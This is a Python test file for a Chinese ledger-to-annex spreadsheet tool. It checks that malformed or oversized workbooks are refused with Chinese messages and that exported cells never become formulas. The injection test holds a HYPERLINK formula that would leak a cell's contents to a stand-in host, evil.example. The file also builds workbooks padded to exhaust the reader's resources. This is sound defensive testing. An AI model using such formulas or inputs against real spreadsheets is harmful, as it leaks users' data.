"""Bad input to the offline command and the workbook checks, as one table: every case is refused
with exit code 2 and a Chinese message naming what to fix, and no 附件 is written.

Then the exports: text a user typed that starts with =, +, - or @ stays text in every cell of the
附件 workbook (never a formula). The ledger reader's own cell-by-cell checks are in test_ledger.py;
here each reaches the user through the command, end to end.
"""

import io
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_ledger import A, base_sheets, set_cell, workbook_bytes

from springoffer.__main__ import main
from springoffer.core import categories as c
from springoffer.core import credit_code, xlsx
from springoffer.core.counting import Annex, Figures, Refusal
from springoffer.core.workbook_checks import (
	MAX_SHEET_ROWS,
	MAX_WORKBOOK_BYTES,
	sheet_extent_problem,
	workbook_problem,
)

FIXTURES = Path(__file__).resolve().parent / "fixtures"


def _ledger(edit=None):
	sheets = base_sheets()
	if edit:
		edit(sheets)
	return workbook_bytes(sheets)


def _padded_with_empty_rows(rows=1_000_000):
	"""The base ledger whose 企业 sheet carries a million empty rows (5 MB zipped, 70 MB of XML)."""
	source = zipfile.ZipFile(BytesIO(_ledger()))
	out = BytesIO()
	with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
		for item in source.infolist():
			data = source.read(item.filename)
			if item.filename == "xl/worksheets/sheet1.xml":
				empty = "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t></t></is></c></row>' for i in range(7, 7 + rows))
				data = data.replace(b"</sheetData>", empty.encode() + b"</sheetData>")
			target.writestr(item, data)
	return out.getvalue()


def _two_cells_far_apart():
	"""The base ledger with one more cell on its 企业 sheet at XFD400000: 6 KB, but read as one rectangle
	it would be 6.5 billion cells."""
	wb = load_workbook(BytesIO(_ledger()))
	wb["企业"]["XFD400000"] = "x"
	out = BytesIO()
	wb.save(out)
	return out.getvalue()


def _truncated():
	data = _ledger()
	return data[: len(data) // 2]


def _bad_check_digit(s):
	good = credit_code.make_code("430100", "MA4L0G07")
	s["企业"].append([good[:-1] + ("0" if good[-1] != "0" else "1"), "长沙星城建材有限公司", c.PRIVATE, "长沙市", 30])


def _write(tmp_path, content):
	"""Put `content` where the command reads it: bytes → a file; "missing" → no file; "folder" → a folder;
	("sparse", n) → a file of n bytes written without filling them."""
	path = tmp_path / "台帐.xlsx"
	if content == "missing":
		return path
	if content == "folder":
		path.mkdir()
		return path
	if isinstance(content, tuple):
		with path.open("wb") as f:
			f.truncate(content[1])
		return path
	path.write_bytes(content)
	return path


# case → (what the file is, extra arguments, words the message must contain)
CASES = {
	"the file does not exist": ("missing", (), "找不到台帐文件"),
	"a folder instead of a file": ("folder", (), "是文件夹"),
	"an empty file": (b"", (), "不是有效的 .xlsx"),
	"a CSV file named .xlsx": ("统一社会信用代码,企业名称\n".encode(), (), "另存为 .xlsx"),
	"a truncated workbook": (_truncated, (), "不是有效的 .xlsx"),
	"a password-protected workbook": (lambda: (FIXTURES / "password-protected.xlsx").read_bytes(), (), "取消密码"),
	"an old .xls workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), (), "另存为 .xlsx"),
	"an oversized file": (("sparse", MAX_WORKBOOK_BYTES + 1), (), "超过"),
	"a sheet padded with 1,000,000 empty rows": (_padded_with_empty_rows, (), "空行删除"),
	"two cells far apart on a sheet": (_two_cells_far_apart, (), "铺得太开"),
	"a credit code of 7 characters": (lambda: _ledger(lambda s: s["企业"].append(["9143010", "某公司", c.PRIVATE, "长沙市", 3])), (), "应为 18 位"),
	"a credit code with a wrong check digit": (lambda: _ledger(_bad_check_digit), (), "校验码错误"),
	"the same credit code twice": (lambda: _ledger(lambda s: s["企业"].append([A.lower(), "同码公司", c.PRIVATE, "长沙市", 3])), (), "重复"),
	"an unknown enterprise category": (lambda: _ledger(lambda s: set_cell(s, "企业", 5, "企业类型", "集体所有制企业")), (), "不是可选值"),
	"an unknown region": (lambda: _ledger(lambda s: set_cell(s, "企业", 3, "所在地区", "北京市")), (), "不在地区树中"),
	"a negative employee count": (lambda: _ledger(lambda s: set_cell(s, "企业", 4, "职工人数", -5)), (), "应大于 0"),
	"a zero covered-worker count": (lambda: _ledger(lambda s: set_cell(s, "要约", 2, "覆盖职工数", 0)), (), "应大于 0"),
	"a covered-worker count in words": (lambda: _ledger(lambda s: set_cell(s, "要约", 2, "覆盖职工数", "四百")), (), "不是整数"),
	"an answer dated before the offer": (lambda: _ledger(lambda s: set_cell(s, "要约", 2, "回应日期", "2023-02-01")), (), "早于"),
	"a refusal without a reason": (lambda: _ledger(lambda s: set_cell(s, "要约", 3, "拒绝原因", None)), (), "拒绝原因"),
	"an offer sent outside the campaign": (lambda: _ledger(lambda s: set_cell(s, "要约", 2, "发出日期", "2023-09-01")), (), "2023年春季要约行动"),
	"an impossible date": (lambda: _ledger(lambda s: set_cell(s, "要约", 2, "发出日期", "2023-02-30")), (), "日期"),
	"an unknown reporting unit": (_ledger, ("--unit", "北京市"), "不在地区树中"),
	"an as-of date that is not a date": (_ledger, ("--as-of", "六月底"), "2023-06-30 这样的格式"),
	"an unknown campaign": (_ledger, ("--campaign", "2099年春季要约行动"), "台帐中没有活动"),
}


@pytest.mark.parametrize("case", CASES)
def test_refused_in_chinese_and_nothing_written(case, tmp_path):
	content, extra, words = CASES[case]
	path = _write(tmp_path, content() if callable(content) else content)
	output = tmp_path / "附件.xlsx"
	args = ["annex", str(path), "--unit", "长沙市", "--output", str(output)]
	for flag, value in zip(extra[::2], extra[1::2]):
		if flag in args:
			args[args.index(flag) + 1] = value
		else:
			args += [flag, value]
	out, err = io.StringIO(), io.StringIO()
	code = main(args, out=out, err=err)
	message = err.getvalue()
	assert code == 2, (case, message, out.getvalue())
	assert "Traceback" not in message
	assert words in message, (case, message)
	assert any("\u4e00" <= ch <= "\u9fff" for ch in message)
	assert not output.exists(), case  # nothing written


def test_the_table_has_the_cases_the_issue_names():
	assert len(CASES) >= 20


def test_checks_pass_a_good_workbook_and_a_province_sized_sheet():
	assert workbook_problem(_ledger()) is None
	archive = zipfile.ZipFile(BytesIO(_padded_with_empty_rows(MAX_SHEET_ROWS - 10)))
	assert sheet_extent_problem(archive, "xl/worksheets/sheet1.xml", "企业") is None


def test_checks_take_paths_bytes_and_file_objects(tmp_path):
	data = (FIXTURES / "password-protected.xlsx").read_bytes()
	path = tmp_path / "p.xlsx"
	path.write_bytes(data)
	for source in (path, str(path), data, BytesIO(data)):
		assert "密码" in workbook_problem(source)
	stream = BytesIO(data)
	stream.seek(3)
	workbook_problem(stream)
	assert stream.tell() == 3  # the caller's position is left as it was


# ---- exports: formula injection ------------------------------------------------------------------

PREFIXES = ("=", "+", "-", "@")


def _hostile(prefix):
	return f'{prefix}HYPERLINK("http://evil.example/?"&A1,"点此")' if prefix == "=" else f"{prefix}1+1"


@pytest.mark.parametrize("prefix", PREFIXES)
def test_annex_workbook_keeps_typed_text_as_text(prefix):
	hostile = _hostile(prefix)
	annex = Annex(
		unit="长沙市",
		as_of=date(2023, 6, 30),
		rows={category: Figures(1, 10, 0, 0, 0, 0, 1) for category in c.REPORT_CATEGORIES},
		refusals=[Refusal(hostile, hostile, c.PRIVATE, hostile, 10, c.REFUSED, hostile, hostile)],
	)
	rows = [(category, Figures(1, 10, 0, 0, 0, 0, 1).as_tuple(), hostile) for category in c.REPORT_CATEGORIES]
	rows.append((c.TOTAL_LABEL, Figures(4, 40, 0, 0, 0, 0, 4).as_tuple(), hostile))
	for data in (
		xlsx.write_annex(annex, hostile, date(2023, 6, 30)),
		xlsx.write_workbook(hostile, date(2023, 6, 30), rows, annex.refusals),
	):
		wb = load_workbook(BytesIO(data))
		seen = 0
		for ws in wb.worksheets:
			for row in ws.iter_rows():
				for cell in row:
					assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
					if isinstance(cell.value, str) and hostile in cell.value:
						assert cell.data_type in ("s", "inlineStr"), cell.coordinate
						seen += 1
		assert seen >= 5  # unit label, reasons, and the refusal sheet's text columns
